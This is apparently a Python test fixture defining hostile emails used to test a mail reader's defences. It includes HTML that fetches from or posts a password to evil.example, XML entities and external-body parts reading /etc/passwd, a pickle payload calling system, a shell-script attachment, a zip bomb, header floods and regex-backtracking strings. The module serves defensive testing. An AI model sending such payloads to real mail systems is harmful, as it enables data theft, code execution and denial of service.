"""Mails by a stranger who wants to break their reader."""

from __future__ import annotations

import io
import zipfile

from tests.worker.trust.attacks import ANNA, MX, OWN, judged_by, mail, parts

ZIP = io.BytesIO()
with zipfile.ZipFile(ZIP, "w", zipfile.ZIP_DEFLATED) as archive:
    archive.writestr("invoice.txt", b"unsubscribe " * 2_000_000)
HOSTILE_HTML = (
    "<html><head><meta http-equiv=refresh content='0;url=https://evil.example/m'>"
    "<link rel=stylesheet href='https://evil.example/c'><style>@import url(https://evil.example/i)</style>"
    "<script>fetch('https://evil.example/s')</script></head><body onload=\"location='https://evil.example/o'\">"
    "<img src='https://evil.example/p.gif'><iframe src='file:///etc/passwd'></iframe>"
    "<form action='https://evil.example/f' method=post><input name=password></form>"
    "<a href='https://evil.example/u'>Yes please</a><object data='https://evil.example/d'></object></body></html>"
)
BOMBS: dict[str, bytes] = {
    "a page that wants to be shown": mail("x@evil.example", HOSTILE_HTML, more="Content-Type: text/html\n"),
    "a page without end": mail("x@evil.example", "<table><tr><td>" * 20_000, more="Content-Type: text/html\n"),
    "entities in entities": mail(
        "x@evil.example",
        "<!DOCTYPE a [<!ENTITY a 'aa'><!ENTITY b '&a;&a;'><!ENTITY c SYSTEM 'file:///etc/passwd'>]><p>&b;&c;</p>",
        more="Content-Type: text/html\n",
    ),
    "an archive that unpacks to 24 MB": parts(
        "mixed",
        ("text/plain", "See the invoice."),
        ("application/zip; name=invoice.zip\nContent-Transfer-Encoding: 8bit", ZIP.getvalue().decode("latin-1")),
        sender="x@evil.example",
    ),
    "a program": parts(
        "mixed",
        ("text/plain", "Run me."),
        ("application/x-sh; name=run.sh", "#!/bin/sh\ntouch /tmp/owned"),
        ("application/octet-stream; name=model.artifact", "cos\nsystem\n(S'true'\ntR."),
        sender="x@evil.example",
    ),
    "a part that lies elsewhere": parts(
        "mixed",
        ("text/plain", "See the file."),
        ('message/external-body; access-type=URL; URL="http://evil.example/x"', "Content-Type: text/plain\n"),
        ('message/external-body; access-type=local-file; name="/etc/passwd"', "Content-Type: text/plain\n"),
        sender="x@evil.example",
    ),
    "a calendar that wants to be fetched": mail(
        "x@evil.example",
        "BEGIN:VCALENDAR\nMETHOD:REPLY\nBEGIN:VEVENT\nUID:1\nDTSTART;TZID=https://evil.example/t:20260601T090000\n"
        "ATTACH:https://evil.example/a\nATTENDEE;PARTSTAT=DECLINED:mailto:anna@client.example\n"
        "RRULE:FREQ=SECONDLY;COUNT=999999999\nEND:VEVENT\nEND:VCALENDAR",
        more="Content-Type: text/calendar; method=REPLY\n",
    ),
    "messages in messages": b"From: x@evil.example\r\n"
    + b"Content-Type: message/rfc822\r\n\r\n" * 2_000
    + b"unsubscribe",
    "a giant field": mail("x@evil.example", more="X-Long: " + "a b " * 25_000 + "\n"),
    "thousands of fields": mail("x@evil.example", more="X-Many: y\n" * 10_000),
    "who asks for a receipt": mail(
        ANNA,
        "Yes, please.",
        more="Disposition-Notification-To: anna@client.example\nReturn-Receipt-To: anna@client.example\n" + OWN,
    ),
    "who asks for a confirmation": mail(
        "confirm@evil.example",
        "Please confirm that you are human: https://evil.example/c",
        subject="Confirm your message",
    ),
    **{
        f"a text that makes patterns go back and forth: {piece[:12]!r}": mail(
            "x@evil.example", piece * (40_000 // len(piece))
        )
        for piece in (
            "a@",
            "on 1.1.2026 a ",
            "unsubscribe me not ",
            "> > ",
            "550 5.1.1 <",
            "until 3/4 ",
            "((",
            "-- \n",
            " \t",
        )
    },
    "results that make patterns go back and forth": mail(
        "x@evil.example", results=judged_by(f"{MX}; " + "dkim / 1 = ( " * 2_000, f'{MX}; "' + '\\"(' * 5_000)
    ),
    "a subject of prefixes": mail(ANNA, subject="Re: " * 5_000 + "Question"),
}
"""What wants to be opened, run, answered, or never to end."""
